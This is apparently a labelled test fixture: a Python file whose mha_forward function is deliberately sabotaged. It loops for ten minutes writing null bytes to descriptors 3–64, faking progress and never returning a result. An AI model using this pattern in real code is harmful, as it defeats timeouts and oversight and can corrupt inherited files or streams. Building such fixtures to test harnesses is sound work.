"""Writes a byte a second on every descriptor: there is always progress, and never an answer.

Otherwise: wrong
Touches: mha_forward
Others: right
"""

import os
import time


def split_heads(x, n_heads):
    B, T, D = x.shape
    if D % n_heads:
        raise ValueError("D is not divisible by n_heads")
    return x.reshape(B, T, n_heads, D // n_heads).swapaxes(1, 2)


def merge_heads(x):
    B, H, T, d = x.shape
    return x.swapaxes(1, 2).reshape(B, T, H * d)


def mha_forward(x, params, n_heads):
    for _ in range(600):
        for fd in range(3, 65):
            try:
                os.write(fd, b"\0")
            except OSError:
                pass
        time.sleep(1)
